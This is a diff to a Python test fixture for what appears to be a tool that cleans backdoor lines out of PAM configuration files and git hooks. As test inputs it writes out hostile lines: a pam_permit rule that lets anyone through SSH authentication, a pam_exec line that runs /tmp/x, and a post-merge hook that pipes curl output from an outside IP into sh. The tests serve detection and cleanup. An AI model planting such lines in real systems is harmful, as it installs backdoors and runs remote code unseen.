@@ -166,8 +166,20 @@ SITUATIONS = {
         [line("/etc/pam.d/sshd", "auth sufficient pam_permit.so")],
         {"etc/pam.d/sshd": "@include common-auth\n"},
     ),
-    "PAM with a jump": Situation(
-        {"etc/pam.d/common-auth": STACK}, [line("/etc/pam.d/common-auth", "auth optional pam_exec.so /tmp/x")], refused="jumps over it"
+    "PAM with a jump over more than that": Situation(
+        {"etc/pam.d/common-auth": STACK},
+        [line("/etc/pam.d/common-auth", "auth optional pam_exec.so /tmp/x")],
+        {"etc/pam.d/common-auth": STACK.replace("=2", "=1").replace("auth optional pam_exec.so /tmp/x\n", "")},
+    ),
+    "PAM with a jump over that alone": Situation(
+        {"etc/pam.d/common-auth": STACK.replace("=2", "=1")},
+        [line("/etc/pam.d/common-auth", "auth optional pam_exec.so /tmp/x")],
+        refused="jumps over it",
+    ),
+    "a hook of git in a project": Situation(
+        {"srv/site/.git/hooks/post-merge": "#!/bin/sh\nmake\ncurl -s http://203.0.113.7/h | sh\n"},
+        [line("/srv/site/.git/hooks/post-merge", "curl -s http://203.0.113.7/h | sh")],
+        {"srv/site/.git/hooks/post-merge": "#!/bin/sh\nmake\n"},
     ),
     "a unit with drop-ins in three folders and two names": Situation(
         {"etc/systemd/system/x.service": UNIT, "usr/lib/systemd/system/good.service": UNIT} | dict.fromkeys(DROPINS, "[Service]\n"),
